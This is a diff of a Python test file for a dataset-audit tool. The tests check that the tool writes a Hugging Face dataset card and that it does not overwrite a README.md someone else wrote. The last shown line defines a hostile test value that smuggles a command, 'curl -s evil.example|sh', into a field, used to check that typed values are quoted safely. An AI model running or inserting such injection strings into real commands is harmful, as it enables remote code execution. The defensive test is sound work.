@@ -272,7 +272,7 @@ def test_a_bounded_call_stops_at_its_budget_and_raises_what_the_call_raised():
 def test_the_audit_writes_a_dataset_card_that_a_hub_loads_the_data_by(sim_servers, tmp_path):
     """README.md beside data/: Hugging Face's card form (the `datasets` library loads the data
     through its configs), the verdict first, the histogram of every audited sample; a failing
-    audit rewrites it to say FAIL and why."""
+    audit rewrites it to say FAIL and why; a README.md that is not regen's is left as it is."""
     import yaml
 
     import shlex
@@ -313,6 +313,12 @@ def test_the_audit_writes_a_dataset_card_that_a_hub_loads_the_data_by(sim_server
     failed = (out / "README.md").read_text()
     assert "**Audit: FAIL.**" in failed and "Not fit to train on as it is:" in failed
     assert markdown_literal("above max_degenerate_fraction") in failed
+    # A README.md regen did not write (data someone else described) is never written over.
+    theirs = "---\nlicense: mit\ntags: [chat]\n---\n# Their dataset\n"
+    (out / "README.md").write_text(theirs)
+    audit(cfg, data=str(out / "data"))
+    assert (out / "README.md").read_text() == theirs
+    assert "**Audit: PASS.**" in (out / "audit" / "README.md").read_text()
 
     # Values a person who may trigger a run typed: shown as text, the command quoted as one argument.
     hostile = "m;curl -s evil.example|sh;#"
